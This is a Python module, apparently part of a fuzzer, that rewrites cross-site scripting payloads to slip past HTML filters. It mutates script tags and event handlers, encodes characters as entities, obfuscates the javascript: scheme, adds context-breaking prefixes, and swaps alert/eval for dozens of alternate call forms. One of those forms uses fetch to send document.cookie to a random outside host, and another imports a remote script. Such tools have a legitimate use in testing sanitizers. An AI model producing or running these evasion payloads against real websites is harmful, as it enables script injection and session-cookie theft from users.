"""HTML and JavaScript that still runs: tags, handlers, separators, quotes, entities, other ways to call (WHATWG HTML, ECMAScript)."""

import re

from . import listed


def _word(rng):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randrange(1, 8)))


def case(text, rng):
    if rng.random() < 0.3:
        return text.upper()
    return "".join(char.swapcase() if rng.random() < 0.4 else char for char in text)


def tags(text, rng):
    """Another element, a made-up one, or something between its name and its attributes."""
    name = rng.choice((rng.choice(listed.TAGS), _word(rng), f"{_word(rng)}-{_word(rng)}", "svg", "img", "details"))
    if "<script" in text.lower():
        return re.sub(r"(?i)<script", rng.choice(("<script/" + _word(rng), "<script\n", "<script\x0c", "<script " + _word(rng), "<scRipt", "<script\t", "<svg><script", "<script src=data:,", "<script/**/", "<scr\x00ipt", "<script%20", "<script/" + _word(rng) + "=" + _word(rng))), text, count=1)
    return re.sub(r"<([a-zA-Z][\w-]*)", f"<{name}", text, count=rng.choice((0, 1)))


def gaps(text, rng):
    gap = rng.choice(("/", "\t", "\n", "\x0c", "\r", "//", "/" + _word(rng) + "/", " " + _word(rng) + " ", " " + _word(rng) + "=" + _word(rng) + " ", "  ", "\n\n", "/\n/", " / ", "%09", "%0a", "%0d"))
    return re.sub(r"(?<=[\w'\"])[ /](?=\w+\s*=)", lambda m: gap, text)


def handler(text, rng):
    event = rng.choice(listed.EVENTS)
    if rng.random() < 0.2:
        event = "on" + _word(rng) + _word(rng)
    found = re.search(r"(?i)\bon[a-z]{3,24}(\s*=)", text)
    if not found:
        return text
    mark = rng.choice(("=", " =", "= ", "\n=", "\t=\t", " = ", "\x0c=", "=\n", "%0a=", "/=" if rng.random() < 0.1 else "="))
    return text[:found.start()] + event + mark + text[found.end():]


def quotes(text, rng):
    old, new = rng.choice((("\"", "'"), ("'", "\""), ("'", "`"), ("\"", ""), ("'", ""), ("\"", "`"), ("'", "&apos;"), ("\"", "&quot;"), ("'", "\\'"), ("'", "\\x27")))
    return text.replace(old, new)


def entities(text, rng):
    """Within an attribute's value the browser decodes them before it runs anything."""
    form = rng.choice(("&#{d};", "&#x{x};", "&#{d}", "&#x{x}", "&#0000{d};", "&#X{x};"))
    share = rng.choice((0.15, 0.4, 1.0))
    found = re.search(r"(?i)(?<==)[\"']?([^<>]{3,200})|javascript:", text)
    if not found:
        return text
    inner = "".join(form.format(d=ord(c), x=format(ord(c), "x")) if c.isalpha() and rng.random() < share else rng.choice(("&colon;", ":")) if c == ":" else rng.choice(("&lpar;", "(")) if c == "(" else c for c in found.group())
    return text[:found.start()] + inner + text[found.end():]


def calls(text, rng):
    """The call written in another way."""
    def change(match):
        name, rest = match.group(1), match.group(2)
        cut = rng.randrange(1, len(name))
        a, b = name[:cut], name[cut:]
        holder = rng.choice(("window", "self", "top", "this", "parent", "frames", "globalThis", "document.defaultView"))
        argument = rng.choice(("1", "document.domain", "document.cookie", f"'{_word(rng)}'", "origin", "/x/.source", "name", "`x`", str(rng.randrange(9999)), "location.href"))
        codes = ",".join(str(ord(c)) for c in f"{name}({rng.randrange(9)})")
        return rng.choice((f"{holder}['{a}'+'{b}']({argument})", f"{holder}[`{a}${{''}}{b}`]({argument})", f"{holder}[/{a}/.source+/{b}/.source]({argument})", f"({name})({argument})", f"{name}`{_word(rng)}`", f"{name}/**/({argument})", f"{name}\n({argument})", f"{name}?.({argument})", f"{name}.call(null,{argument})", f"{name}.apply(0,[{argument}])", f"[{argument}].find({name})", f"[{argument}].map({name})", f"Reflect.apply({name},0,[{argument}])",
                           f"eval('{a}'+'{b}({rng.randrange(9)})')", f"eval(String.fromCharCode({codes}))", f"setTimeout('{a}'+'{b}\\x28{rng.randrange(9)}\\x29')", f"Function('{name}({rng.randrange(9)})')()", f"[]['filter']['constructor']('{name}(1)')()", f"constructor.constructor('{name}(1)')()", "".join(f"\\u{ord(c):04x}" for c in a) + b + f"({argument})", f"\\u{{{ord(name[0]):x}}}{name[1:]}({argument})", f"{_word(rng)}={name},{_word(rng)}({argument})", f"throw onerror={name},{argument}", f"onerror={name};throw {argument}",
                           f"location='javas'+'cript:{name}%28{rng.randrange(9)}%29'", f"import('data:text/javascript,{name}(1)')", f"new Function`{name}\\`{rng.randrange(9)}\\``", f"{_word(rng)}();{name}({argument})", f"{rng.choice(listed.CALLS)}({argument})", f"void({name}({argument}))", f"{name}(({argument}))", f"{name}({argument})//{_word(rng)}", f"atob.constructor(atob`YWxlcnQoMSk`)()", f"parent[8680439..toString(30)]({argument})", f"import(/*{_word(rng)}*/'//{_word(rng)}.{_word(rng)}')", f"fetch(`//{_word(rng)}.{_word(rng)}/?${{document.cookie}}`)", f"{name}&lpar;{argument}&rpar;"))
    return re.sub(r"\b(alert|prompt|confirm|print|eval)\s*[(`]([^()`]{0,20})[)`]", change, text, count=rng.choice((0, 1)))


def scheme(text, rng):
    def change(match):
        return rng.choice(("java\tscript:", "java\nscript:", "jAvAsCrIpT:", "javascript&colon;", "&#106;avascript:", "\x01javascript:", "java&Tab;script:", "java&NewLine;script:", "javascript :", "  javascript:", "javascript:/*" + _word(rng) + "*/", "javascript://%0a", "javascript:void(0);", "java\\u0073cript:", "j&#x61;vascript:", "javascript:\"" + _word(rng) + "\";", "data:text/html,", "vbscript:", "javascript:" + _word(rng) + ";"))
    return re.sub(r"(?i)javascript\s*:", change, text)


def around(text, rng):
    before = rng.choice(("\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "\"", "'", "<b>", "<svg>", "<math>", "<!--", "<a>", "<p title='</p>", "\" autofocus ", "*/", "${", "\\\"", "';", "</option></select>", _word(rng), "<noscript><p title=\"</noscript>", "<form><", "%22>", "'\"()&%<zzz>"))
    after = rng.choice(("", "", "<!--", "//", "<b>", "-->", "<\"", " " + _word(rng) + "=\"", "<svg>", "'", "\"", ";//", "x"))
    return before + text + after


def unclosed(text, rng):
    return re.sub(r">\s*$|</?[a-z]+>\s*$", rng.choice(("", "//", " ", "<", "<!--", " x", "\n")), text, count=1)


CHANGES = (case, tags, tags, gaps, handler, quotes, entities, calls, calls, scheme, around, unclosed)


def rewrite(text, rng):
    for change in rng.sample(CHANGES, rng.randrange(1, 5)):
        text = change(text, rng)[:6000]
    return text
